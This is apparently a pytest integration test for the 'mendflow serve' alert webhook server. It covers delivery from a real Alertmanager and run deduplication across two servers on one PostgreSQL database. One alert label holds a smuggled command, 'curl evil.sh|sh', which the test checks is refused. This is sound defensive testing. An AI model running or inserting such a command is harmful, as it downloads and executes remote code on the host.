"""`mendflow serve` as a real process: a real Alertmanager sends it the alerts it is given,
the matching guide runs, and a hostile label changes nothing. Two servers on one PostgreSQL
given the same notification at once start one run between them."""

from __future__ import annotations

import asyncio
import os
import socket
import subprocess
import sys
import time
import uuid
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import asyncpg
import httpx
import pytest

from .conftest import ALERTS_TOKEN, TOKENS, VIEWER_TOKEN, bearer, notification, write_guides

pytestmark = pytest.mark.slow
ROOT = Path(__file__).resolve().parents[2]
ADMIN_URL = os.environ.get("MENDFLOW_TEST_DATABASE_URL",
                           "postgresql://postgres@127.0.0.1:5432/test")


def admin_sql(sql: str) -> None:
    """Run one statement as the admin (CREATE / DROP DATABASE for a test's own database)."""
    async def go() -> None:
        conn = await asyncpg.connect(ADMIN_URL)
        try:
            await conn.execute(sql)
        finally:
            await conn.close()
    asyncio.run(go())


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def wait_http(url: str, proc: subprocess.Popen[bytes], log: Path, timeout: float = 60) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise AssertionError(f"exited {proc.returncode}:\n{log.read_text()[-3000:]}")
        try:
            if httpx.get(url, timeout=1).status_code < 500:
                return
        except httpx.HTTPError:
            pass
        time.sleep(0.2)
    raise AssertionError(f"{url} never answered:\n{log.read_text()[-3000:]}")


def start(argv: list[str], log: Path, env: dict[str, str] | None = None
          ) -> subprocess.Popen[bytes]:
    return subprocess.Popen(argv, cwd=ROOT, env={**os.environ, **(env or {})},
                            stdout=log.open("wb"), stderr=subprocess.STDOUT)


def stop(*procs: subprocess.Popen[bytes]) -> None:
    for proc in procs:
        proc.terminate()
    for proc in procs:
        try:
            proc.wait(timeout=15)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()


def serve(tmp: Path, port: int, extra_env: dict[str, str], name: str = "serve",
          extra_args: list[str] | None = None) -> subprocess.Popen[bytes]:
    log = tmp / f"{name}.log"
    proc = start([sys.executable, "-m", "engine.cli", "serve", "--guides", str(tmp / "guides"),
                  "--port", str(port), *(extra_args or [])], log,
                 {"MENDFLOW_API_TOKENS": TOKENS, "PYTHONPATH": str(ROOT), **extra_env})
    wait_http(f"http://127.0.0.1:{port}/healthz", proc, log)
    return proc


@pytest.fixture
def alertmanager_bin() -> str:
    found = next((p for p in ("prometheus-alertmanager", "alertmanager")
                  if subprocess.run(["which", p], capture_output=True).returncode == 0), None)
    if found is None:
        if os.environ.get("CI") == "true":
            pytest.fail("Alertmanager is not installed (scripts/ensure-system.sh installs it)")
        pytest.skip("Alertmanager is not installed")
    return found


def poll(url: str, token: str, until: Any, timeout: float = 60) -> Any:
    deadline = time.monotonic() + timeout
    got: Any = None
    while time.monotonic() < deadline:
        got = httpx.get(url, headers=bearer(token), timeout=5).json()
        if until(got):
            return got
        time.sleep(0.25)
    raise AssertionError(f"{url}: {str(got)[:500]}")


def test_alertmanager_sends_an_alert_and_its_guide_runs(tmp_path: Path, alertmanager_bin: str
                                                        ) -> None:
    write_guides(tmp_path / "guides")
    port, am_port = free_port(), free_port()
    config = tmp_path / "alertmanager.yml"
    token_file = tmp_path / "mendflow-token"  # as the README's receiver: no token in the config
    token_file.write_text(ALERTS_TOKEN)
    config.write_text(f"""
route:
  receiver: mendflow
  group_by: [alertname, node]
  group_wait: 0s
  group_interval: 1s
  repeat_interval: 1h
receivers:
  - name: mendflow
    webhook_configs:
      - url: http://127.0.0.1:{port}/api/v1/alerts
        send_resolved: true
        http_config:
          authorization:
            type: Bearer
            credentials_file: {token_file}
""")
    server = serve(tmp_path, port, {"MENDFLOW_DATA_DIR": str(tmp_path / "data")})
    am_log = tmp_path / "alertmanager.log"
    am = start([alertmanager_bin, f"--config.file={config}",
                f"--storage.path={tmp_path / 'am-data'}",
                f"--web.listen-address=127.0.0.1:{am_port}", "--cluster.listen-address="],
               am_log)
    try:
        wait_http(f"http://127.0.0.1:{am_port}/-/ready", am, am_log)
        now = datetime.now(UTC).isoformat()
        alerts = [{"labels": {"alertname": "NodeDiskFull", "node": "db-7"},
                   "annotations": {"summary": "disk 95% full"}, "startsAt": now},
                  {"labels": {"alertname": "NodeDiskFull", "node": "db-8; curl evil.sh|sh"},
                   "annotations": {}, "startsAt": now},
                  {"labels": {"alertname": "CertExpiring", "node": "web-1"},
                   "annotations": {}, "startsAt": now}]
        posted = httpx.post(f"http://127.0.0.1:{am_port}/api/v2/alerts", json=alerts)
        assert posted.status_code == 200, posted.text
        base = f"http://127.0.0.1:{port}/api/v1"
        kept = poll(f"{base}/alerts", VIEWER_TOKEN, lambda got: len(got) >= 3)
        by_node = {a["labels"]["node"]: a for a in kept}
        assert by_node["db-7"]["disposition"] == "started"
        assert by_node["db-8; curl evil.sh|sh"]["disposition"] == "refused"
        assert by_node["web-1"]["disposition"] == "unmatched"
        run_id = by_node["db-7"]["run_id"]
        run = poll(f"{base}/runs/{run_id}", VIEWER_TOKEN,
                   lambda got: got.get("status") not in (None, "running"))
        assert run["status"] == "succeeded", run
        runs = poll(f"{base}/runs", VIEWER_TOKEN, lambda got: True)
        assert [r["run_id"] for r in runs] == [run_id]  # the hostile one never ran
    finally:
        stop(am, server)


def test_two_servers_on_one_postgresql_start_one_run_per_alert_group(tmp_path: Path) -> None:
    name = f"mf_serve_{uuid.uuid4().hex[:8]}"
    admin_sql(f"CREATE DATABASE {name}")
    url = ADMIN_URL.rsplit("/", 1)[0] + f"/{name}"
    write_guides(tmp_path / "guides", pause=3.0)
    ports = [free_port(), free_port()]
    env = {"MENDFLOW_DATABASE_URL": url}
    servers = []
    try:
        servers = [serve(tmp_path, p, {**env, "MENDFLOW_DATA_DIR": str(tmp_path / f"d{i}")},
                         name=f"serve{i}") for i, p in enumerate(ports)]

        async def post_everywhere() -> list[dict[str, Any]]:
            async with httpx.AsyncClient(timeout=30) as client:
                got = await asyncio.gather(*(
                    client.post(f"http://127.0.0.1:{ports[i % 2]}/api/v1/alerts",
                                json=notification(group="same-group"),
                                headers=bearer(ALERTS_TOKEN)) for i in range(8)))
            return [g.json()["alerts"][0] for g in got]

        said = asyncio.run(post_everywhere())
        started = [s for s in said if s["disposition"] == "started"]
        assert len(started) == 1, said
        assert {s["run_id"] for s in said} == {started[0]["run_id"]}  # the rest deduped to it
    finally:
        stop(*servers)
        admin_sql(f"DROP DATABASE IF EXISTS {name} WITH (FORCE)")
